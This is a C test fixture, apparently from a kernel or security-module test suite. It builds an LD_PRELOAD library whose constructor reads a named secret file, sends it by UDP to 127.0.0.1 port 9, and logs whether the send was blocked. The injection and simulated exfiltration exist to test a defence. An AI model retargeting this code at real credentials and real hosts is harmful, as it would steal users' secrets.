// SPDX-License-Identifier: GPL-2.0-only
/*
 * An LD_PRELOAD payload for test_trusted_exec.sh: code the caller slips
 * into a trusted program.  When AP_EXFIL_SECRET is set, its constructor
 * reads that file, sends it by UDP to 127.0.0.1:9 and writes the outcome
 * ("OK" or the errno name) to AP_EXFIL_OUT.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void exfil(void)
{
	const char *secret = getenv("AP_EXFIL_SECRET"), *out = getenv("AP_EXFIL_OUT");
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_port = htons(9) };
	const char *res = "OK";
	char buf[256];
	ssize_t n;
	int fd, s;

	if (!secret || !out)
		return;
	fd = open(secret, O_RDONLY);
	n = fd < 0 ? -1 : read(fd, buf, sizeof(buf));
	if (n < 0) {
		res = "READ-FAILED";
	} else {
		sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		s = socket(AF_INET, SOCK_DGRAM, 0);
		if (sendto(s, buf, n, 0, (struct sockaddr *)&sin, sizeof(sin)) < 0)
			res = errno == EPERM ? "EPERM" : "ERROR";
	}
	fd = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd >= 0) {
		write(fd, res, strlen(res));
		close(fd);
	}
}
